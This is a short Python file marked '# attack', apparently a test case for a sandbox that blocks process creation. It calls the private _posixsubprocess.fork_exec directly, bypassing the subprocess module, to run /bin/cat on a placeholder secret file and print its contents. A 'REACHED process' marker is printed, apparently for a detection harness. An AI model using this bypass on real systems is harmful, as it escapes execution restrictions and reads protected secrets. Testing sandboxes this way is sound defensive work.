# attack: the C function below subprocess, without subprocess
# family: import
import _posixsubprocess
import posix
end, start = posix.pipe()
failed, failing = posix.pipe()
pid = _posixsubprocess.fork_exec(
    [b"/bin/cat", b"$SECRET_FILE"], [b"/bin/cat"], True, (), None, None, -1, -1, -1, start, -1, -1, failed, failing, True, False, -1, None, None, None, -1, None, False
)
posix.close(start)
print("REACHED process", pid)
print(posix.read(end, 4096))
